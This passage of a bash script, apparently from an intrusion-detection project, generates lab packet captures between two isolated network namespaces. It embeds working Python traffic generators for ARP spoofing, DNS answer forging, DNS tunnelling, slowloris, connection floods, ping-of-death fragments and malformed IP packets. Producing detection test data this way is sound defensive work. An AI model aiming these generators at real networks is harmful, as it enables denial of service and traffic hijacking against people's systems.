#!/usr/bin/env bash
# Makes the small lab captures in captures/lab/ with real tools (hping3, nmap,
# ping, nc, curl, scapy, python sockets) between two network namespaces on
# this machine.
#
#   sudo scripts/make-lab-captures.sh            # writes captures/lab/*.pcap
#   sudo OUT=/tmp/lab scripts/make-lab-captures.sh
#   sudo ONLY="nmap_ack_scan nmap_maimon_scan" scripts/make-lab-captures.sh
#                                                # only these recipes; the other
#                                                # files in $OUT are left alone
#
# Network safety: every packet goes over one veth pair between the namespaces
# nvlabA (10.77.0.1, fd77::1) and nvlabB (10.77.0.2, fd77::2). Neither namespace
# has a default route or any link to the host, so nothing can leave the machine.
# tcpdump runs inside nvlabB on its veth end. Every loop is bounded, every tool
# runs under `timeout`, and the namespaces are deleted on exit (trap).
set -euo pipefail

ROOT=$(cd "$(dirname "$0")/.." && pwd)
OUT=${OUT:-$ROOT/captures/lab}
PY=/usr/bin/python3            # Debian's python3 (has scapy); not a pyenv one

NSA=nvlabA NSB=nvlabB
IFA=nvlabA0 IFB=nvlabB0        # veth ends inside nvlabA / nvlabB
IP_A=10.77.0.1 IP_B=10.77.0.2
IP6_A=fd77::1 IP6_B=fd77::2
MAC_A=02:77:00:00:00:01 MAC_B=02:77:00:00:00:02

if [ "$(id -u)" -ne 0 ]; then
  echo "make-lab-captures: must run as root (network namespaces, raw sockets)" >&2
  exit 1
fi

# ---------------------------------------------------------------- recipes
# every recipe, in run order; ONLY="name ..." picks some of them (default: all)
RECIPES="land port_zero ipv4_header_anomalies invalid_source frag_tiny
  frag_overlap icmp_redirect icmp_big_echo ipv6_rh0 dns_wrong_port
  nmap_syn_scan nmap_xmas_scan arp_sweep arp_spoof benign_curl
  nmap_ack_scan nmap_maimon_scan nmap_ipproto_scan dns_hex_direct
  dns_raw_udp53 dns_spoof frag_train_incomplete slowloris mac_many_ips
  conn_flood_completed syn_burst_short carpet_udp carpet_syn kerberos_spray"
ONLY=${ONLY:-}
for r in $ONLY; do
  case " $(echo $RECIPES) " in
    *" $r "*) ;;
    *) echo "make-lab-captures: unknown recipe in ONLY: $r" >&2; exit 1 ;;
  esac
done
want() { # recipe...: true if any of them is selected
  local r
  [ -z "$ONLY" ] && return 0
  for r in "$@"; do
    case " $(echo $ONLY) " in *" $r "*) return 0 ;; esac
  done
  return 1
}

# ---------------------------------------------------------------- tools
need=(tcpdump:tcpdump ip:iproute2 ethtool:ethtool capinfos:wireshark-common
      timeout:coreutils)
if want land port_zero syn_burst_short carpet_udp carpet_syn; then
  need+=(hping3:hping3)
fi
if want nmap_syn_scan nmap_xmas_scan arp_sweep nmap_ack_scan nmap_maimon_scan \
        nmap_ipproto_scan; then need+=(nmap:nmap); fi
if want icmp_big_echo frag_train_incomplete mac_many_ips carpet_udp carpet_syn; then
  need+=(ping:iputils-ping)
fi
if want dns_wrong_port; then need+=(nc:netcat-openbsd); fi
if want benign_curl slowloris syn_burst_short; then need+=(curl:curl); fi
missing=()
for pair in "${need[@]}"; do
  command -v "${pair%%:*}" >/dev/null 2>&1 || missing+=("${pair#*:}")
done
if want ipv4_header_anomalies invalid_source frag_tiny frag_overlap \
        icmp_redirect ipv6_rh0 dns_wrong_port arp_spoof dns_spoof \
        frag_train_incomplete mac_many_ips; then
  "$PY" -c 'import scapy.all' >/dev/null 2>&1 || missing+=(python3-scapy)
fi
if want kerberos_spray; then
  "$PY" -c 'import scapy.layers.kerberos' >/dev/null 2>&1 || missing+=(python3-scapy)
fi
if [ ${#missing[@]} -gt 0 ]; then
  echo "make-lab-captures: installing ${missing[*]}" >&2
  export DEBIAN_FRONTEND=noninteractive
  apt-get install -y -qq --no-install-recommends "${missing[@]}" >/dev/null 2>&1 || {
    apt-get update -qq
    apt-get install -y -qq --no-install-recommends "${missing[@]}" >/dev/null
  }
fi

# ---------------------------------------------------------------- lab
TMP=$(mktemp -d /tmp/nvlab.XXXXXX)
PIDS=()          # background processes we started (tcpdump, sinks, servers)

cleanup() {
  set +e
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
  sleep 0.3
  for p in "${PIDS[@]}"; do kill -9 "$p" 2>/dev/null; done
  for ns in "$NSA" "$NSB"; do
    if ip netns list | grep -qw "$ns"; then
      # anything still alive inside OUR namespaces was started by this script
      for p in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
      ip netns del "$ns"
    fi
  done
  rm -rf "$TMP"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

inA() { ip netns exec "$NSA" "$@"; }
inB() { ip netns exec "$NSB" "$@"; }

# stale namespaces from an interrupted run of this script
for ns in "$NSA" "$NSB"; do
  if ip netns list | grep -qw "$ns"; then ip netns del "$ns"; fi
done

ip netns add "$NSA"
ip netns add "$NSB"
ip link add name "$IFA" address "$MAC_A" netns "$NSA" type veth \
  peer name "$IFB" address "$MAC_B" netns "$NSB"

setup_side() { # ns if ip4 ip6 peer_ip4 peer_ip6 peer_mac
  local ns=$1 ifc=$2 ip4=$3 ip6=$4 pip4=$5 pip6=$6 pmac=$7
  ip netns exec "$ns" sh -e -c "
    ip link set lo up
    # quiet IPv6: no link-local address (no DAD/MLD chatter), no RS, no RA
    sysctl -qw net.ipv6.conf.$ifc.addr_gen_mode=1
    sysctl -qw net.ipv6.conf.$ifc.accept_dad=0
    sysctl -qw net.ipv6.conf.$ifc.router_solicitations=0
    sysctl -qw net.ipv6.conf.$ifc.accept_ra=0
    # every error/reply the kernel would send is sent (no rate limiting)
    sysctl -qw net.ipv4.icmp_ratelimit=0
    sysctl -qw net.ipv6.icmp.ratelimit=0
    # incomplete fragment queues expire after 2 s (default 30 s), so the
    # reassembly-timeout ICMP lands in the capture that caused it
    sysctl -qw net.ipv4.ipfrag_time=2
    # real checksums and MTU-sized frames on the wire (veth offloads off)
    ethtool -K $ifc tx off tso off gso off gro off >/dev/null 2>&1 || true
    ip addr add $ip4/24 dev $ifc
    ip -6 addr add $ip6/64 dev $ifc nodad
    ip link set $ifc up
    # static neighbours: no ARP/ND chatter in the captures unless a recipe makes it
    ip neigh replace $pip4 lladdr $pmac dev $ifc nud permanent
    ip -6 neigh replace $pip6 lladdr $pmac dev $ifc nud permanent
  "
}
setup_side "$NSA" "$IFA" "$IP_A" "$IP6_A" "$IP_B" "$IP6_B" "$MAC_B"
setup_side "$NSB" "$IFB" "$IP_B" "$IP6_B" "$IP_A" "$IP6_A" "$MAC_A"

# UDP discard sink on 10.77.0.2:9 and :53 so probes there draw no ICMP
# port-unreachable replies (bounded: exits by itself after 15 minutes). The
# last two recipes stop it (stop_sink) to put their own server on :53.
cat >"$TMP/sink.py" <<'EOF'
import select, socket, time
socks = []
for port in (9, 53):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("10.77.0.2", port))
    socks.append(s)
end = time.time() + 900
while time.time() < end:
    ready, _, _ = select.select(socks, [], [], 1.0)
    for s in ready:
        s.recv(65535)
EOF
ip netns exec "$NSB" "$PY" "$TMP/sink.py" &   # $! is the python itself
SINK_PID=$!
PIDS+=("$SINK_PID")
stop_sink() { # frees 10.77.0.2:53 for a recipe's own server (once)
  [ -n "$SINK_PID" ] || return 0
  kill "$SINK_PID" 2>/dev/null || true
  wait "$SINK_PID" 2>/dev/null || true
  SINK_PID=
}

# scapy recipes, each sends explicit Ethernet frames out of nvlabA's veth
cat >"$TMP/labsend.py" <<'EOF'
import os, random, sys, time
import logging
logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.all import (ARP, BOOTP, DHCP, DNS, DNSQR, ICMP, IP, IPv6, Raw, TCP,
                       UDP, Ether, ICMPv6EchoRequest, IPv6ExtHdrDestOpt,
                       IPv6ExtHdrRouting, checksum, conf, fragment, mac2str,
                       sendp)
conf.verb = 0

IFACE = os.environ["IFA"]
MAC_A, MAC_B = os.environ["MAC_A"], os.environ["MAC_B"]
A, B = os.environ["IP_A"], os.environ["IP_B"]
A6, B6 = os.environ["IP6_A"], os.environ["IP6_B"]
EVIL_MAC = "02:00:00:00:00:66"
BCAST = "ff:ff:ff:ff:ff:ff"

def eth(dst=MAC_B, src=MAC_A, etype=0x0800):
    return Ether(dst=dst, src=src, type=etype)

def tx(frames, gap=0.2):
    for f in frames:
        sendp(f, iface=IFACE, verbose=False)
        time.sleep(gap)

def with_ip_options(pkt, opt):
    """Insert raw option bytes (already a multiple of 4 long) into an IPv4
    packet without letting scapy 'fix' them; recompute IHL, length, checksum."""
    raw = bytearray(bytes(pkt))
    hdr, rest = raw[:20], raw[20:]
    hdr[0] = 0x40 | ((20 + len(opt)) // 4)
    total = 20 + len(opt) + len(rest)
    hdr[2:4] = total.to_bytes(2, "big")
    hdr = hdr + bytearray(opt)
    hdr[10:12] = b"\x00\x00"
    hdr[10:12] = checksum(bytes(hdr)).to_bytes(2, "big")
    return bytes(hdr + rest)

def ipv4_header_anomalies():
    f = []
    # 1-2: reserved ("evil", RFC 3514) flag set
    for i in range(2):
        f.append(eth() / IP(src=A, dst=B, id=0x7101 + i, flags="evil")
                 / UDP(sport=41001 + i, dport=9) / Raw(b"reserved-flag"))
    # 3-4: TTL 0
    for i in range(2):
        f.append(eth() / IP(src=A, dst=B, id=0x7201 + i, ttl=0)
                 / UDP(sport=41011 + i, dport=9) / Raw(b"ttl-zero"))
    # 5: LSRR (0x83) with length 2 (minimum is 3), then EOL padding
    p = IP(src=A, dst=B, id=0x7301) / UDP(sport=41021, dport=9) / Raw(b"bad-lsrr")
    f.append(eth() / Raw(with_ip_options(p, b"\x83\x02\x00\x00")))
    # 6: Record Route (0x07) whose length byte (39) runs past the 4 option bytes
    p = IP(src=A, dst=B, id=0x7302) / UDP(sport=41022, dport=9) / Raw(b"bad-rr-len")
    f.append(eth() / Raw(with_ip_options(p, b"\x07\x27\x04\x00")))
    tx(f, gap=0.3)

def invalid_source():
    f = []
    n = 0
    for src in ("224.0.0.5", "127.0.0.1", "255.255.255.255"):
        for i in range(2):
            n += 1
            f.append(eth() / IP(src=src, dst=B, id=0x7400 + n)
                     / UDP(sport=42000 + n, dport=9) / Raw(b"invalid-source"))
    # control: an ordinary DHCP DISCOVER from an unconfigured client
    f.append(eth(dst=BCAST) / IP(src="0.0.0.0", dst="255.255.255.255", id=0x7480)
             / UDP(sport=68, dport=67)
             / BOOTP(op=1, xid=0x77000001, flags=0x8000, chaddr=mac2str(MAC_A) + b"\x00" * 10)
             / DHCP(options=[("message-type", "discover"), ("hostname", "nvlabA"), "end"]))
    tx(f)

def frag_tiny():
    f = []
    for i in range(3):
        syn = IP(src=A, dst=B, proto=6) / TCP(sport=43001 + i, dport=80, flags="S",
                                             seq=0x10000000 * (i + 1), window=1024)
        tcp = bytes(syn)[20:]                       # 20-byte TCP header, checksum set
        ipid = 0x7501 + i
        f.append(eth() / IP(src=A, dst=B, id=ipid, flags="MF", frag=0, proto=6) / Raw(tcp[:8]))
        f.append(eth() / IP(src=A, dst=B, id=ipid, flags=0, frag=1, proto=6) / Raw(tcp[8:]))
    tx(f)

def frag_overlap():
    f = []
    for i in range(3):
        udp = bytes(IP(src=A, dst=B) / UDP(sport=44001 + i, dport=9) / Raw(bytes(range(48))))[20:]
        ipid = 0x7601 + i                            # udp is 56 bytes
        f.append(eth() / IP(src=A, dst=B, id=ipid, flags="MF", frag=0, proto=17) / Raw(udp[:32]))
        # offset 24 bytes (frag=3): bytes 24..31 overlap the first fragment
        f.append(eth() / IP(src=A, dst=B, id=ipid, flags=0, frag=3, proto=17) / Raw(udp[24:56]))
    # ping of death: first fragment + a last fragment at offset 65512 with 40
    # bytes, so the datagram would end at byte 65552 (> 65535)
    icmp = bytes(IP(src=A, dst=B) / ICMP(type=8, id=0x7777, seq=1) / Raw(b"D" * 24))[20:]
    f.append(eth() / IP(src=A, dst=B, id=0x76ff, flags="MF", frag=0, proto=1) / Raw(icmp))
    f.append(eth() / IP(src=A, dst=B, id=0x76ff, flags=0, frag=8189, proto=1) / Raw(b"D" * 40))
    tx(f)

def icmp_redirect():
    f = []
    for i in range(3):
        # the quoted datagram: B's flow to a documentation (TEST-NET-2) address;
        # only these header bytes are carried, nothing is ever sent there
        quoted = bytes(IP(src=B, dst="198.51.100.%d" % (10 + i), id=0x7700 + i, ttl=63)
                       / UDP(sport=45001 + i, dport=53))[:28]
        f.append(eth() / IP(src=A, dst=B, id=0x7701 + i)
                 / ICMP(type=5, code=1, gw="10.77.0.66") / Raw(quoted))
    tx(f)

def ipv6_rh0():
    f = []
    for i in range(2):
        f.append(eth(etype=0x86DD) / IPv6(src=A6, dst=B6)
                 / IPv6ExtHdrRouting(type=0, addresses=[A6, B6])
                 / ICMPv6EchoRequest(id=0x7801, seq=i + 1, data=b"rh0"))
    for i in range(2):
        f.append(eth(etype=0x86DD) / IPv6(src=A6, dst=B6)
                 / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt()
                 / ICMPv6EchoRequest(id=0x7802, seq=i + 1, data=b"3xdestopt"))
    tx(f, gap=0.3)

def dns_control():
    f = []
    for i in range(3):
        f.append(eth() / IP(src=A, dst=B, id=0x7901 + i) / UDP(sport=46001 + i, dport=53)
                 / DNS(id=0x7901 + i, rd=1, qd=DNSQR(qname="example.com")))
    tx(f)

def arp_spoof():
    # ordinary who-has from A; nvlabB's kernel answers it
    tx([Ether(dst=BCAST, src=MAC_A)
        / ARP(op=1, hwsrc=MAC_A, psrc=A, hwdst="00:00:00:00:00:00", pdst=B)], gap=0.5)
    # unsolicited replies from a third MAC claiming A's address, unicast to B
    tx([Ether(dst=MAC_B, src=EVIL_MAC)
        / ARP(op=2, hwsrc=EVIL_MAC, psrc=A, hwdst=MAC_B, pdst=B)] * 3, gap=0.5)

def frag_train_incomplete():
    # control: one complete fragmented echo request (4,000 data bytes, id
    # 0x7a00), cut by scapy's fragment() into 1480-byte pieces (B answers it)
    ping = IP(src=A, dst=B, id=0x7a00) / ICMP(type=8, id=0x7a00, seq=1) / Raw(b"P" * 4000)
    tx([eth() / f for f in fragment(ping, fragsize=1480)], gap=0.001)
    time.sleep(1.5)
    # 3 UDP datagrams of 8,000 data bytes (8,008-byte IP payload) to :9, ids
    # 0x7a01-0x7a03, cut into 1480-byte fragments at offsets 0, 1480, ...,
    # 5920 (all with MF); the last fragment (offset 7400, 608 bytes) is never sent
    data = bytes(range(256)) * 31 + bytes(range(64))        # 8,000 bytes
    for k in range(3):
        ipid = 0x7a01 + k
        udp = bytes(IP(src=A, dst=B) / UDP(sport=47001 + k, dport=9) / Raw(data))[20:]
        f = []
        for off in range(0, len(udp), 1480):
            if off + 1480 >= len(udp):
                break                                    # the missing last fragment
            f.append(eth() / IP(src=A, dst=B, id=ipid, flags="MF", frag=off // 8, proto=17)
                     / Raw(udp[off:off + 1480]))
        tx(f, gap=0.001)
        if k < 2:
            time.sleep(1.5)

def mac_many_ips():
    # 400 UDP datagrams from nvlabA's own MAC, each from a different source in
    # 10.77.1.0-10.77.254.255 (fixed seed), to 10.77.0.2:9999, 10 ms apart
    rng = random.Random(4077)
    srcs, seen = [], set()
    while len(srcs) < 400:
        ip = "10.77.%d.%d" % (rng.randint(1, 254), rng.randint(0, 255))
        if ip not in seen:
            seen.add(ip)
            srcs.append(ip)
    s = conf.L2socket(iface=IFACE)
    t0 = time.time()
    for i, src in enumerate(srcs):
        s.send(eth() / IP(src=src, dst=B, id=rng.getrandbits(16))
               / UDP(sport=rng.randint(32768, 60999), dport=9999) / Raw(b"nv%03d" % i))
        time.sleep(max(0.0, t0 + (i + 1) * 0.01 - time.time()))
    s.close()

globals()[sys.argv[1]]()
EOF
# DNS tunnel recipes: plain python sockets and hand-built DNS messages (no
# scapy, no DNS library). Clients run in nvlabA, servers in nvlabB on :53.
cat >"$TMP/dnstun.py" <<'EOF'
import os, random, socket, struct, sys, time

A, B = os.environ["IP_A"], os.environ["IP_B"]
MX, CNAME, TXT = 15, 5, 16
DEADLINE = time.time() + 90          # servers give up after 90 s

def wire_name(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"

def udp(ip, port, timeout):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((ip, port))
    s.settimeout(timeout)
    return s

def hex_client():
    # n queries straight to B:53, one socket (one ephemeral port), types in
    # turn MX, CNAME, TXT; name p<seq>.<60 hex>.<60 hex> (30 random bytes each)
    n, gap = int(sys.argv[2]), float(sys.argv[3])
    s = udp(A, 0, 1.0)
    answered = 0
    for seq in range(1, n + 1):
        name = "p%d.%s.%s" % (seq, os.urandom(30).hex(), os.urandom(30).hex())
        qtype = (MX, CNAME, TXT)[(seq - 1) % 3]
        q = (struct.pack("!6H", random.getrandbits(16), 0x0100, 1, 0, 0, 0)   # RD
             + wire_name(name) + struct.pack("!2H", qtype, 1))
        s.sendto(q, (B, 53))
        try:
            r = s.recv(65535)
            answered += r[:2] == q[:2]
        except socket.timeout:
            pass
        time.sleep(gap)
    print("hex_client: %d queries from port %d, %d answered" % (n, s.getsockname()[1], answered))

def hex_server():
    # answers each query: NOERROR, AA, RD copied, question echoed, one answer
    # of the asked type (TTL 0) whose owner is a pointer to the question name
    n = int(sys.argv[2])
    s = udp(B, 53, 1.0)
    done = 0
    while done < n and time.time() < DEADLINE:
        try:
            q, peer = s.recvfrom(65535)
        except socket.timeout:
            continue
        i = 12
        while i < len(q) and q[i]:           # labels (queries are not compressed)
            i += 1 + q[i]
        qend = i + 5
        if len(q) < qend:
            continue
        qtype = struct.unpack("!H", q[i + 1:i + 3])[0]
        if qtype == MX:                      # 10 mx.<qname>
            rdata = struct.pack("!H", 10) + b"\x02mx\xc0\x0c"
        elif qtype == CNAME:                 # <32 hex>.<qname>
            rdata = b"\x20" + os.urandom(16).hex().encode() + b"\xc0\x0c"
        elif qtype == TXT:                   # one 64-char hex string
            rdata = b"\x40" + os.urandom(32).hex().encode()
        else:
            rdata = None
        flags = 0x8400 | (struct.unpack("!H", q[2:4])[0] & 0x0100)
        r = q[:2] + struct.pack("!5H", flags, 1, 1 if rdata else 0, 0, 0) + q[12:qend]
        if rdata:
            r += struct.pack("!HHHIH", 0xC00C, qtype, 1, 0, len(rdata)) + rdata
        s.sendto(r, peer)
        done += 1
    print("hex_server: answered %d queries" % done)

def raw_payload():
    # 100-400 random bytes, QDCOUNT (bytes 4-5) 0xffff: never a valid DNS message
    b = bytearray(os.urandom(random.randint(100, 400)))
    b[4:6] = b"\xff\xff"
    return bytes(b)

def raw_client():
    n, gap = int(sys.argv[2]), float(sys.argv[3])
    s = udp(A, 0, 1.0)
    got = 0
    for _ in range(n):
        s.sendto(raw_payload(), (B, 53))
        try:
            s.recv(65535)
            got += 1
        except socket.timeout:
            pass
        time.sleep(gap)
    print("raw_client: %d datagrams from port %d, %d replies" % (n, s.getsockname()[1], got))

def raw_server():
    n = int(sys.argv[2])
    s = udp(B, 53, 1.0)
    done = 0
    while done < n and time.time() < DEADLINE:
        try:
            _, peer = s.recvfrom(65535)
        except socket.timeout:
            continue
        s.sendto(raw_payload(), peer)
        done += 1
    print("raw_server: answered %d datagrams" % done)

globals()[sys.argv[1]]()
EOF
# DNS answer race (dns_spoof): a slow python DNS server in nvlabB, a python
# stub client in nvlabA and an off-path-style forger in nvlabB that watches
# nvlabB0 with an AF_PACKET socket and answers some queries first (scapy).
cat >"$TMP/dnsspoof.py" <<'EOF'
import os, random, socket, struct, sys, time

A, B = os.environ["IP_A"], os.environ["IP_B"]
ZONE = {"www.example.lab": "10.77.0.80", "mail.example.lab": "10.77.0.25",
        "api.example.lab": "10.77.0.81"}
FORGED = "10.77.0.66"
DELAY = 0.15                         # the real server answers 150 ms late
DEADLINE = time.time() + 90

def plan():
    # (name, retransmitted, forged) per query, 1 s apart; ids and client
    # ports are distinct and fixed (seeded), one socket per query
    rows = [("www", 0, 0), ("mail", 0, 0), ("api", 1, 0), ("www", 0, 0), ("mail", 0, 0),
            ("www", 0, 1), ("api", 0, 1), ("mail", 0, 1), ("www", 0, 1), ("api", 0, 1),
            ("mail", 0, 0), ("www", 0, 0)]
    rng = random.Random(0x5353)
    ids = rng.sample(range(1, 65536), len(rows))
    ports = rng.sample(range(32768, 61000), len(rows))
    return [dict(seq=i + 1, name=n + ".example.lab", id=ids[i], port=ports[i], rexmit=r, forged=f)
            for i, (n, r, f) in enumerate(rows)]

def wire_name(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"

def query(q):
    return struct.pack("!6H", q["id"], 0x0100, 1, 0, 0, 0) + wire_name(q["name"]) + struct.pack("!2H", 1, 1)

def parse(msg):
    # -> (id, qr, qname, end of question) for an uncompressed one-question message
    if len(msg) < 17:
        return None
    i, labels = 12, []
    while i < len(msg) and msg[i]:
        labels.append(msg[i + 1:i + 1 + msg[i]].decode("ascii", "replace"))
        i += 1 + msg[i]
    if i + 5 > len(msg):
        return None
    return struct.unpack("!H", msg[:2])[0], msg[2] >> 7, ".".join(labels), i + 5

def answer(q, addr):
    # QR, AA, RD copied; the question echoed; one A record (TTL 300) or NXDOMAIN
    qid, _, name, qend = parse(q)
    rd = struct.unpack("!H", q[2:4])[0] & 0x0100
    if addr is None:
        return q[:2] + struct.pack("!5H", 0x8403 | rd, 1, 0, 0, 0) + q[12:qend]
    return (q[:2] + struct.pack("!5H", 0x8400 | rd, 1, 1, 0, 0) + q[12:qend]
            + struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + socket.inet_aton(addr))

def server():
    n = int(sys.argv[2])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((B, 53))
    s.settimeout(1.0)
    done = 0
    while done < n and time.time() < DEADLINE:
        try:
            q, peer = s.recvfrom(65535)
        except socket.timeout:
            continue
        p = parse(q)
        if p is None or p[1]:
            continue
        time.sleep(DELAY)
        s.sendto(answer(q, ZONE.get(p[2].lower())), peer)
        done += 1
    print("server: answered %d queries, each %.0f ms late" % (done, DELAY * 1000))

def forger():
    # reads every frame on nvlabB0; for each planned query id (first sight
    # only) sends a forged answer at once: 10.77.0.2:53 -> the query's source
    # port, same id and question, A = 10.77.0.66
    import logging
    logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
    from scapy.all import IP, UDP, Ether, Raw
    ifb, ready = sys.argv[2], sys.argv[3]
    mac_a, mac_b = os.environ["MAC_A"], os.environ["MAC_B"]
    todo = {q["id"]: q for q in plan() if q["forged"]}
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((ifb, 0))
    s.settimeout(1.0)
    open(ready, "w").close()
    rng = random.Random(0x66)
    while todo and time.time() < DEADLINE:
        try:
            frame, addr = s.recvfrom(65535)
        except socket.timeout:
            continue
        if addr[2] != 0 or frame[12:14] != b"\x08\x00":      # PACKET_HOST, IPv4 only
            continue
        ip = frame[14:]
        ihl = (ip[0] & 15) * 4
        if ip[9] != 17 or socket.inet_ntoa(ip[16:20]) != B or struct.unpack("!H", ip[6:8])[0] & 0x3fff:
            continue
        sport, dport = struct.unpack("!2H", ip[ihl:ihl + 4])
        q = ip[ihl + 8:]
        p = parse(q) if dport == 53 else None
        if p is None or p[1] or p[0] not in todo:
            continue
        src = socket.inet_ntoa(ip[12:16])
        f = (Ether(src=mac_b, dst=mac_a) / IP(src=B, dst=src, id=rng.getrandbits(16), flags="DF")
             / UDP(sport=53, dport=sport) / Raw(answer(q, FORGED)))
        s.send(bytes(f))
        del todo[p[0]]
        print("forger: id 0x%04x %s port %d -> %s" % (p[0], p[2], sport, FORGED))
    print("forger: %d planned forgeries not sent" % len(todo))

def client():
    t0 = time.time()
    for q in plan():
        time.sleep(max(0.0, t0 + (q["seq"] - 1) * 1.0 - time.time()))
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((A, q["port"]))
        msg = query(q)
        start = time.time()
        s.sendto(msg, (B, 53))
        if q["rexmit"]:                      # no answer yet: send it again
            time.sleep(0.1)
            s.sendto(msg, (B, 53))
        got = []
        end = time.time() + 0.6
        while time.time() < end:
            s.settimeout(max(0.01, end - time.time()))
            try:
                r = s.recv(65535)
            except socket.timeout:
                break
            if r[:2] == msg[:2] and len(r) >= 4 and r[-4:] != msg[-4:]:
                got.append("%s@%.0fms" % (socket.inet_ntoa(r[-4:]), (time.time() - start) * 1000))
        s.close()
        print("client: #%d %s id 0x%04x port %d%s: %s" % (q["seq"], q["name"], q["id"], q["port"],
              " (sent twice)" if q["rexmit"] else "", " ".join(got) or "no answer"))

globals()[sys.argv[1]]()
EOF

# TCP recipes (slowloris, conn_flood_completed, syn_burst_short): a threading
# HTTP server, a selectors TCP server and python socket clients
cat >"$TMP/tcplab.py" <<'EOF'
import functools, os, random, resource, selectors, socket, struct, sys, threading, time

A, B = os.environ["IP_A"], os.environ["IP_B"]

def nofile(n=4096):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < n:
        resource.setrlimit(resource.RLIMIT_NOFILE, (n, max(n, hard)))

def httpd():
    # python's ThreadingHTTPServer (as `python3 -m http.server`), accept
    # backlog 1024, stops itself after <lifetime> s
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
    port, directory, lifetime = int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    nofile()
    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *a):
            pass
    class Server(ThreadingHTTPServer):
        request_queue_size = 1024
        daemon_threads = True
    srv = Server((B, port), functools.partial(Quiet, directory=directory))
    threading.Timer(lifetime, srv.shutdown).start()
    srv.serve_forever()

def slowloris():
    # n connections to B:80, each a partial GET (no blank line); every <every>
    # s one more header line on each, <rounds> times; then close them all
    n, every, rounds = int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    nofile()
    rng = random.Random(80)
    socks = []
    for i in range(n):
        try:
            s = socket.create_connection((B, 80), timeout=5)
            s.sendall(b"GET /?%d HTTP/1.1\r\nHost: x\r\n" % i)
            socks.append(s)
        except OSError as e:
            print("slowloris: connection %d failed: %s" % (i, e))
        time.sleep(0.01)
    t0 = time.time()
    print("slowloris: %d connections open" % len(socks))
    for r in range(rounds):
        time.sleep(max(0.0, t0 + (r + 1) * every - time.time()))
        ok = 0
        for s in socks:
            try:
                s.sendall(b"X-a: %d\r\n" % rng.randint(1, 5000))
                ok += 1
            except OSError:
                pass
        print("slowloris: round %d: %d sockets still open" % (r + 1, ok))
    time.sleep(1.0)
    for s in socks:
        s.close()

def conn_server():
    # accepts (backlog 4096) and reads; answers "OK\n" to a HELLO line, closes
    # on EOF or reset; stops after <lifetime> s
    lifetime = float(sys.argv[2])
    nofile()
    sel = selectors.DefaultSelector()
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((B, 8080))
    ls.listen(4096)
    ls.setblocking(False)
    sel.register(ls, selectors.EVENT_READ)
    end, accepted = time.time() + lifetime, 0
    while time.time() < end:
        for key, _ in sel.select(0.5):
            if key.fileobj is ls:
                while True:
                    try:
                        c, _ = ls.accept()
                    except BlockingIOError:
                        break
                    c.setblocking(False)
                    sel.register(c, selectors.EVENT_READ)
                    accepted += 1
                continue
            c = key.fileobj
            try:
                d = c.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                d = b""
            if d.startswith(b"HELLO"):
                try:
                    c.sendall(b"OK\n")
                except OSError:
                    pass
            if not d:
                sel.unregister(c)
                c.close()
    print("conn_server: accepted %d connections" % accepted)

def conn_ordinary():
    # n ordinary connections to B:8080, <gap> s apart: HELLO, read OK, close
    n, gap = int(sys.argv[2]), float(sys.argv[3])
    t0, ok = time.time(), 0
    for i in range(n):
        time.sleep(max(0.0, t0 + i * gap - time.time()))
        try:
            with socket.create_connection((B, 8080), timeout=2) as s:
                s.sendall(b"HELLO %d\n" % i)
                ok += s.recv(16) == b"OK\n"
        except OSError as e:
            print("conn_ordinary: %d: %s" % (i, e))
    print("conn_ordinary: %d/%d answered" % (ok, n))

def conn_flood():
    # <rate> completed connections per second for <secs> s: connect, send 10
    # bytes, close; every second one (odd i) closes abortively (SO_LINGER 0: RST)
    rate, secs = int(sys.argv[2]), int(sys.argv[3])
    nofile()
    t0, ok, rst = time.time(), 0, 0
    for i in range(rate * secs):
        time.sleep(max(0.0, t0 + i / rate - time.time()))
        s = socket.socket()
        s.settimeout(2)
        try:
            s.connect((B, 8080))
            s.sendall(b"flood%04d\n" % i)
            ok += 1
            if i % 2:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                rst += 1
        except OSError as e:
            print("conn_flood: %d: %s" % (i, e))
        s.close()
    print("conn_flood: %d connections in %.2f s (%d closed with RST)" % (ok, time.time() - t0, rst))

globals()[sys.argv[1]]()
EOF
# carpet recipes' lead-in: a python UDP echo server on 10.77.0.2:7 and a
# client in nvlabA (plain sockets)
cat >"$TMP/udpecho.py" <<'EOF'
import os, socket, sys, time

A, B = os.environ["IP_A"], os.environ["IP_B"]

def server():
    # echoes <n> datagrams back to their sender, gives up after 60 s
    n = int(sys.argv[2])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((B, 7))
    s.settimeout(1.0)
    done, end = 0, time.time() + 60
    while done < n and time.time() < end:
        try:
            d, peer = s.recvfrom(65535)
        except socket.timeout:
            continue
        s.sendto(d, peer)
        done += 1
    print("udpecho server: echoed %d datagrams" % done)

def client():
    # <n> exchanges with B:7 from one socket, <gap> s apart
    n, gap = int(sys.argv[2]), float(sys.argv[3])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((A, 0))
    s.settimeout(1.0)
    t0, ok = time.time(), 0
    for i in range(n):
        time.sleep(max(0.0, t0 + i * gap - time.time()))
